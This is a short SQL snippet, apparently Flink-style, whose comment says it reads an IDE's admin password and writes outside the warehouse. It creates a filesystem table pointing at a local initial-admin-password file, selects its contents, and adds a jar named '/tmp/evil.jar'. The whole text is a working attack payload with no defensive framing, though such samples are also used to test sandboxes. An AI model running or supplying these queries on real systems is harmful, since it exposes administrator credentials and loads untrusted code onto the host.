-- reads the IDE's admin password and writes outside the warehouse
CREATE TEMPORARY TABLE f (line STRING) WITH ('connector' = 'filesystem', 'path' = 'file:///home/freshet/.freshet/initial-admin-password', 'format' = 'raw');
SELECT * FROM f;
ADD JAR '/tmp/evil.jar';
